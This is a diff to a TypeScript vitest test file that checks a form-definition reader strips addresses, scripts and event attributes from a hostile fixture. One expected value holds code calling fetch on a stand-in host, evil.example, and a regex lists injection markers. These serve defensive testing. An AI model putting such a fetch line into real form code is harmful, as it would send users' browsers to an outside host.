@@ -1,5 +1,8 @@
 import { expect, it } from 'vitest';
-import { readWrittenForm } from './written-form.ts';
+import { readWrittenForm } from './read-written-form.ts';
+
+const readForm = (json: unknown, isWhole: boolean) =>
+  readWrittenForm(json, { submit: 'Submit', isWhole, isType: (type) => type !== 'unheardOf' });
 
 const hostile = {
   title: '  Visit\n',
@@ -42,7 +45,7 @@ const hostile = {
 };
 
 it('carries over only what a form needs: no address, no code, no attribute', () => {
-  const read = readWrittenForm(hostile, 'Submit', true)!;
+  const read = readForm(hostile, true)!;
   expect([read.title, read.icon]).toEqual(['Visit', 'door']);
   expect(JSON.stringify(read.form)).not.toMatch(/evil|fetch|onclick|script|src=|style=/);
   expect(read.form.components.map(({ type, key }) => `${type} ${key}`)).toEqual([
@@ -60,7 +63,7 @@ it('carries over only what a form needs: no address, no code, no attribute', () 
 });
 
 it('shows the code of it apart, and keeps it only where it is wanted', () => {
-  const read = readWrittenForm(hostile, 'Submit', true)!;
+  const read = readForm(hostile, true)!;
   expect(read.code).toEqual([
     { label: 'Name', property: 'calculateValue', code: 'value = fetch("https://evil.example")' },
     { label: 'On', property: 'validate.custom', code: 'valid = true' },
@@ -69,10 +72,10 @@ it('shows the code of it apart, and keeps it only where it is wanted', () => {
 });
 
 it('leaves out what would stand in its fields while it is being written', () => {
-  const read = readWrittenForm(hostile, 'Submit', false)!;
+  const read = readForm(hostile, false)!;
   expect(read.code).toEqual([]);
   expect(JSON.stringify(read.form)).not.toMatch(/Ann|moment/);
-  expect(JSON.stringify(readWrittenForm(hostile, 'Submit', true)!.form)).toMatch(/Ann.*moment/);
+  expect(JSON.stringify(readForm(hostile, true)!.form)).toMatch(/Ann.*moment/);
 });
 
 it('knows what is no form', () => {
@@ -87,13 +90,13 @@ it('knows what is no form', () => {
     { schema: { components: 'all' } },
     { schema: { components: [1, null] } },
   ]) {
-    expect(readWrittenForm(none, 'Submit', true)).toBeUndefined();
+    expect(readForm(none, true)).toBeUndefined();
   }
 });
 
 it('takes no more of a form than a form is deep', () => {
   let deep: object = { type: 'panel', key: 'p', components: [] };
   for (let turn = 0; turn < 16; turn += 1) deep = { type: 'panel', key: 'p', components: [deep] };
-  const read = readWrittenForm({ schema: { components: [deep] } }, 'Submit', true)!;
+  const read = readForm({ schema: { components: [deep] } }, true)!;
   expect(JSON.stringify(read.form).match(/"panel"/g)?.length).toBe(13);
 });
